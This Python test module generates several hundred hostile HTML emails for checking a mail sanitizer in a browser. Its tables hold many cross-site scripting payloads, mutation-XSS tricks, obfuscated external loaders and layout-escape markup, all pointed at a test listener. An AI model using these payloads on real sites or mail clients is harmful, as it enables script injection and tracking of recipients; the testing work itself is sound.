"""Several hundred hostile mails in HTML, for the browser to be tried with.

``corpus(base)`` gives ``(name, html)``; ``base`` is the address of a listener that must
never be asked.  Built from tables, because what gets through a cleaner is mostly an
odd pairing: this attribute on that element, this scheme in that property.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

RUN = "parent.postMessage('ran','*');new Image().src='{base}/ran'"
"""What every script tries: to tell the page above, and to ask the listener."""

ADDRESSES = (
    "{base}/{n}",
    "//{host}/{n}",
    "\\\\\\\\{host}/{n}",
    "/\\{host}/{n}",
    " {base}/{n}",
    "ht\ntp://{host}/{n}",
    "http:{host}/{n}",
    "http:/{host}/{n}",
    "&#104;ttp://{host}/{n}",
    "HTTP://{host}/{n}",
)
LOADERS = (
    '<img src="{url}">',
    '<img srcset="{url} 1x, {url}2 2x">',
    '<img lowsrc="{url}" dynsrc="{url}">',
    '<picture><source srcset="{url}"><img></picture>',
    '<image src="{url}">',
    '<input type="image" src="{url}">',
    '<iframe src="{url}"></iframe>',
    '<frameset><frame src="{url}"></frameset>',
    '<embed src="{url}">',
    '<object data="{url}"></object>',
    '<applet code="x" codebase="{url}"></applet>',
    '<video src="{url}" poster="{url}" autoplay></video>',
    '<audio src="{url}" autoplay></audio>',
    '<video><source src="{url}"><track src="{url}" default></video>',
    '<link rel="stylesheet" href="{url}">',
    '<link rel="preload" as="image" href="{url}">',
    '<link rel="prefetch" href="{url}">',
    '<link rel="preconnect" href="{url}">',
    '<link rel="dns-prefetch" href="{url}">',
    '<link rel="prerender" href="{url}">',
    '<link rel="modulepreload" href="{url}">',
    '<link rel="icon" href="{url}">',
    '<link rel="manifest" href="{url}">',
    '<script src="{url}"></script>',
    '<base href="{url}/"><img src="relative.png">',
    '<meta http-equiv="refresh" content="0;url={url}">',
    '<body background="{url}">',
    '<table background="{url}"><tr><td background="{url}">x</table>',
    '<svg><image href="{url}" xlink:href="{url}"/></svg>',
    '<svg><use href="{url}#a"/></svg>',
    '<svg><feImage href="{url}"/></svg>',
    '<svg><style>@import "{url}";</style></svg>',
    '<math href="{url}"><mglyph src="{url}"/></math>',
    '<style>@import url("{url}");</style>',
    '<style>@import "{url}";</style>',
    '<style>p{{background:url("{url}")}}</style><p>x',
    '<style>@font-face{{font-family:x;src:url("{url}")}}p{{font-family:x}}</style><p>x',
    '<style>p::before{{content:url("{url}")}}</style><p>x',
    '<style>@media all{{p{{list-style:url("{url}")}}}}</style><p>x',
    '<style>p{{background:image-set("{url}" 1x)}}</style><p>x',
    '<style>p{{background:cross-fade(url("{url}"),red)}}</style><p>x',
    '<style>p{{cursor:url("{url}"),auto;mask:url("{url}")}}</style><p>x',
    '<style>p{{filter:url("{url}#f");clip-path:url("{url}#c")}}</style><p>x',
    "<p style=\"background:url('{url}')\">x",
    '<p style="background-image:url({url});border-image:url({url}) 1">x',
    '<p style="--x:url({url});background:var(--x)">x',
    '<portal src="{url}"></portal>',
    '<fencedframe src="{url}"></fencedframe>',
    '<model src="{url}"></model>',
    '<bgsound src="{url}">',
    '<form action="{url}"><button autofocus>x</button></form>',
    '<a href="x" ping="{url}">x</a>',
    '<html manifest="{url}"><p>x',
    '<body><p>x</body><img src="{url}">',
    '<!--[if mso]><img src="{url}"><![endif]--><p>x',
    '<noscript><img src="{url}"></noscript>',
    '<template shadowrootmode="open"><img src="{url}"></template>',
    '<template><img src="{url}"></template>',
    '<xml><img src="{url}"></xml>',
    '<blockquote cite="{url}"><q cite="{url}">x</q></blockquote>',
    '<script type="speculationrules">{{"prefetch":[{{"urls":["{url}"]}}]}}</script>',
    '<input type="text" style="background:url({url})" autofocus>',
)
RUNNERS = (
    "<script>{run}</script>",
    "<script type=module>{run}</script>",
    "<ScRiPt >{run}</ScRiPt >",
    "<script\n>{run}</script\n>",
    "<scr<script>ipt>{run}</scr</script>ipt>",
    "<svg><script>{run}</script></svg>",
    '<svg/onload="{run}">',
    '<math><mtext><table><mglyph><style><img src=x onerror="{run}">',
    "<math><mtext><mglyph><svg><mtext><textarea><a title='</textarea>"
    "<img src onerror=&quot;{run}&quot;>'>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="{run}">',
    "<svg></p><style><a id=\"</style><img src=1 onerror='{run}'>\">",
    "<noscript><p title=\"</noscript><img src=x onerror='{run}'>\">",
    '<!--><img src=x onerror="{run}">-->',
    '<!--!><img src=x onerror="{run}">-->',
    '<![CDATA[><img src=x onerror="{run}">]]>',
    '<?xml version=1?><img src=x onerror="{run}">',
    '<style><!--</style><img src=x onerror="{run}">--></style>',
    '<title><img src=x onerror="{run}"></title>',
    '<textarea><img src=x onerror="{run}"></textarea>',
    '<xmp><img src=x onerror="{run}"></xmp>',
    '<plaintext><img src=x onerror="{run}">',
    '<select><option><img src=x onerror="{run}"></select>',
    '<table><td><img src=x onerror="{run}"></table><img src=x onerror="{run}">',
    '<img src=x onerror="{run}"//',
    "<img src=x onerror={run}>",
    '<img \x00src=x on\x00error="{run}">',
    '<img/src=x/onerror="{run}">',
    '<a href="javascript:{run}" autofocus>x</a>',
    '<a href="java\tscript:{run}">x</a>',
    '<a href="&#x6a;avascript&colon;{run}">x</a>',
    '<iframe src="javascript:{run}"></iframe>',
    '<iframe srcdoc="<script>{run}</script>"></iframe>',
    '<iframe src="data:text/html,<script>{run}</script>"></iframe>',
    '<object data="data:text/html,<script>{run}</script>"></object>',
    '<embed src="data:image/svg+xml,<svg onload=alert(1)>">',
    '<form action="javascript:{run}"><input type=submit autofocus></form>',
    '<button formaction="javascript:{run}">x</button>',
    '<isindex action="javascript:{run}" type=image>',
    '<svg><animate onbegin="{run}" attributeName=x dur=1s>',
    '<svg><a><animate attributeName=href values="javascript:{run}"/></a></svg>',
    '<svg><set attributeName=onmouseover to="{run}">',
    '<svg><foreignObject><iframe srcdoc="<script>{run}</script>"></foreignObject>',
    '<details open ontoggle="{run}">x</details>',
    '<marquee onstart="{run}">x</marquee>',
    '<video><source onerror="{run}"></video>',
    '<body onload="{run}" onpageshow="{run}" onresize="{run}">',
    '<style>@keyframes x{{}}</style><p style="animation:x 1s" '
    'onanimationstart="{run}">x',
    '<p style="width:expression({run})">x',
    '<p style="-moz-binding:url(data:text/xml,x)">x',
    '<link rel=import href="data:text/html,<script>{run}</script>">',
    '<meta http-equiv=refresh content="0;url=javascript:{run}">',
    '<meta http-equiv=refresh content="0;url=data:text/html,<script>{run}</script>">',
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"
    "<script>{run}</script>",
    '<xss id=x tabindex=1 onfocus="{run}" autofocus>x</xss>',
    '<input onfocus="{run}" autofocus>',
    '<dialog open onclose="{run}"><form method=dialog><button autofocus>x</dialog>',
    '<p popover id=p onbeforetoggle="{run}">x</p><button popovertarget=p autofocus>',
    "<template><script>{run}</script></template>",
    "<div><template shadowrootmode=open><script>{run}</script></template></div>",
    "</div></div></body></html><script>{run}</script>",
    '<p class="o_crm_mail_body"><script>{run}</script></p>',
)
EVENTS = (
    "onload onerror onfocus onanimationstart ontransitionrun ontoggle onpageshow "
    "onscroll onbegin onloadstart onbeforetoggle onresize onformdata ONLOAD "
    "onfocusin onscrollsnapchange"
).split()
CARRIERS = (
    "img src=x",
    "body",
    "svg",
    "iframe",
    "input autofocus",
    "details open",
    "video src=x",
    "object data=x",
    "style",
    "p tabindex=0 autofocus",
)
ESCAPES = (
    "<p style='position:fixed;inset:0;z-index:9999999;background:red'>x",
    "<p style='position:absolute;top:-5000px;left:-5000px'>x",
    "<p style='margin:-9999px 0 0 -9999px;width:99999px;height:99999px'>x",
    "<p style='transform:translate(-900px,-900px) scale(99)'>x",
    "<style>html,body,*{{position:fixed!important;width:500vw;height:500vh}}</style>x",
    "<style>:root{{zoom:50}}body{{margin:-500px}}</style>x",
    "<a target=_top href='{base}/top' autofocus>x</a>",
    "<a target=_parent href='{base}/parent'>x</a>",
    "<base target=_top><a href='{base}/base'>x</a>",
    "<form target=_top action='{base}/form'><input autofocus></form>",
    "<meta http-equiv=refresh content='0;url={base}/refresh'>",
    "<meta name=viewport content='width=99999'>x",
    "<p id=o_crm_mail_found name=body class='modal show o_dialog'>x",
    "<div style='height:9999999px'>x</div>",
    "<table height=999999 width=999999><tr><td>x</table>",
    "<p contenteditable autofocus>x",
    "<p popover=manual style='display:block'>x",
    "<dialog open style='position:fixed;inset:0'>x</dialog>",
    "<marquee scrollamount=999 width=99999>x</marquee>",
    "<blink>x</blink><p accesskey=x tabindex=-1 autofocus>x",
)


def corpus(base: str) -> Iterator[tuple[str, str]]:
    """``(name, html)``; each asks the listener, if at all, for a path of its own."""
    host = base.partition("//")[2]
    run = RUN.replace("{base}", base)
    number = 0

    def written(kind: str, html: str) -> tuple[str, str]:
        nonlocal number
        number += 1
        return f"{kind}-{number}", f"<html><body><p>Hello {number}</p>{html}</body>"

    for loader in LOADERS:
        for address in ADDRESSES[:: 1 if "img src" in loader else 4]:
            url = address.format(base=base, host=host, n=f"load-{number}")
            yield written("load", loader.format(url=url))
    for runner in RUNNERS:
        yield written("run", runner.format(run=run))
        yield written("run-twice", runner.format(run=run) * 2)
    for event, carrier in product(EVENTS, CARRIERS):
        tag = carrier.split()[0]
        yield written("event", f'<{carrier} {event}="{run}">x</{tag}>')
    for escape in ESCAPES:
        yield written("escape", escape.format(base=base))
